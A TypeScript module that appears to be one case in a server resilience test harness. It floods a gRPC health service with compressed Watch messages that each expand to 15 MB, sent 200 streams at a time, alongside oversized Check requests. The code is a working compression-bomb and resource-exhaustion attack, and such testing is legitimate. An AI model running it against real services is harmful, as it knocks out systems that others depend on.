import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import type { Attack } from './attack.js';
import { besideAttackers } from './beside.js';
import { fieldHeader, framed, wireClient } from './wire-client.js';

const NAME_BYTES = 15_000_000;
const WATCHES = { sample: 2000, full: 20_000 };
const AT_A_TIME = 200;

/** Watches of names that nobody serves, each another 15 MB that 15 KB hold; checks of 60 KB names beside. */
export const watches: Attack = {
  title: 'Health watches of unknown names of 15 MB, no two alike',
  run: (extent) =>
    besideAttackers({
      extent,
      kinds: ['ping', 'pcm', 'text'],
      attack: async ({ address }) => {
        // A gzip file may have several parts: only the first differs from name to name.
        const rest = gzipSync(Buffer.alloc(NAME_BYTES, 'a'));
        const watch = () => {
          const first = Buffer.concat([
            fieldHeader(1, NAME_BYTES + 16),
            Buffer.from(randomBytes(8).toString('hex')),
          ]);
          return framed(Buffer.concat([gzipSync(first), rest]), true);
        };
        for (let sent = 0; sent < WATCHES[extent]; sent += AT_A_TIME) {
          const client = wireClient(address);
          const open = Array.from({ length: AT_A_TIME }, () => {
            const stream = client.open('grpc.health.v1.Health/Watch');
            stream.write(watch());
            return stream;
          });
          const name = Buffer.concat([fieldHeader(1, 60_000), Buffer.alloc(60_000, 'b')]);
          await client.call('grpc.health.v1.Health/Check', framed(name));
          for (const stream of open) stream.close();
          client.close();
        }
      },
    }),
};
